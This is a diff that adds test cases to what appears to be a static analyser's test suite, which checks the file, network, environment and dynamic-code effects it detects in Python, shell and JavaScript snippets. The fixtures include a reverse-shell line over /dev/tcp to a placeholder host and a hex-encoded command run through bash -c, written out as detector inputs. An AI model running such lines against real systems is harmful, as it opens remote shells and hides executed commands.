@@ -45,6 +45,26 @@ describe('what Python touches', () => {
       'def f(u):\n    urlopen(u or "https://d.example/")',
       '3 net.http:d.example exact,3 net.http bounded',
     ],
+    [
+      'a port of the library',
+      'import httplib\nhttplib.HTTPConnection("h.example")',
+      '3 net.call:h.example exact',
+    ],
+    [
+      'a program that is run as a file',
+      'import runpy\nrunpy.run_path(name)',
+      '3 fs.read unknown,3 code.dynamic:computed unknown',
+    ],
+    ['no method of a class of its own', 'class E:\n    def open(self, n): return self\nE().open("door")', ''],
+    ['no file in memory', 'import io, zipfile\nzipfile.ZipFile(io.BytesIO(), "w")', ''],
+    ['no table in memory', 'import sqlite3\nsqlite3.connect(":memory:")', ''],
+    [
+      'a table of the network',
+      'import pandas as pd\npd.read_csv("https://t.example/a.csv")',
+      '2 fs.read unknown,3 net.http:t.example exact',
+    ],
+    ['a picture that is saved', 'def f(i):\n    i.save("a.png")\nimport os', '3 fs.write:a.png exact'],
+    ['lines that end as on Windows', '\r\n\r\nimport os\r\nos.remove("a")\r\n', '5 fs.write:a exact'],
     ['a helper', 'def get(u):\n    urlopen(u)\nget("https://h.example")', '3 net.http:h.example exact'],
   ])('tells %s', (_, code, expected) => {
     expect(found('a.py', `from urllib.request import urlopen\n${code}`).join()).toBe(expected)
@@ -130,6 +150,25 @@ describe('what a shell script touches', () => {
     ['its arguments', 'rm -- "$1"', '1 fs.write bounded'],
     ['an unknown program', './build.sh --fast', '1 shell.execute:./build.sh exact'],
     ['a function of its own', 'f() { :; }\nf', ''],
+    ['no program that is only looked for', 'command -v git && command -V curl', ''],
+    ['no variable of its own with a pattern', 'd=a/b\necho "${d##*/} ${1-}"', ''],
+    ['no counter', 'for ((i=0; i<3; i++)); do echo "$i"; done', ''],
+    ['no name that is put together', 'printf -v "arg_$n" x\necho "$arg_a"', '1 env.read:n exact'],
+    [
+      'no function of a script it takes in',
+      '. ./lib.sh\nassert_same "$lib_dir" "$KEY"',
+      '2 env.read:KEY exact',
+    ],
+    [
+      'text in numbers that is run',
+      'x=$(printf \'\\x65\\x63ho hi\')\nbash -c "$x"',
+      '2 code.dynamic:decoded exact',
+    ],
+    [
+      'a shell on a socket',
+      'bash -i >& /dev/tcp/h.example/1 0>&1',
+      '1 net.call:h.example exact,1 shell.execute:bash exact,1 code.dynamic:computed unknown',
+    ],
   ])('tells %s', (_, code, expected) => {
     verifies('L1')
     expect(found('a.sh', code).join()).toBe(expected)
@@ -182,6 +221,35 @@ describe('texts that are hard to read', () => {
     ['texts that double', `import os\nx = "aaaaaaaaaa"\n${'x = x + x\n'.repeat(200)}os.system(x)`],
   ])('ends with %s', (_, text) => {
     expect(found('a.py', text).some((line) => /shell\.execute|code\.unknown/.test(line))).toBe(true)
+  })
+
+  it('follows a function that calls itself no more than it must', () => {
+    const calls = Array(6).fill('f(n - 1, "a")').join(' + ')
+    const text = `import os\ndef f(n, x):\n    os.remove(x)\n    return ${calls}\nf(9, "b")\nos.system("id")\n`
+    expect(found('a.py', text)).toEqual([
+      '3 fs.write:b exact',
+      '3 fs.write:a exact',
+      '6 shell.execute:id exact',
+    ])
+  })
+
+  it.each([
+    [
+      'a.js',
+      'x.toLocaleString(); "a".hasOwnProperty("b"); constructor\nfetch("https://h.example")',
+      '2 net.http:h.example exact',
+    ],
+    ['a.py', 'import os\n"a".constructor(); valueOf\nos.remove("b")', '3 fs.write:b exact'],
+    ['a.sh', 'constructor toString\nrm b', '1 shell.execute:constructor exact,2 fs.write:b exact'],
+  ])('knows nothing of names that every object has: %s', (path, text, expected) => {
+    verifies('L1')
+    expect(found(path, text).join()).toBe(expected)
+  })
+
+  it('sees what stands in an object that is handed on, and the maker of functions behind a method', () => {
+    verifies('L1')
+    expect(found('a.js', 'JSON.stringify({ env: process.env })')).toEqual(['1 env.read:* exact'])
+    expect(found('a.js', '[].map.constructor("x")')).toEqual(['1 code.dynamic exact'])
   })
 
   it.each(['a.py', 'a.js', 'a.sh'])('never fails on the bytes of %s', (path) => {
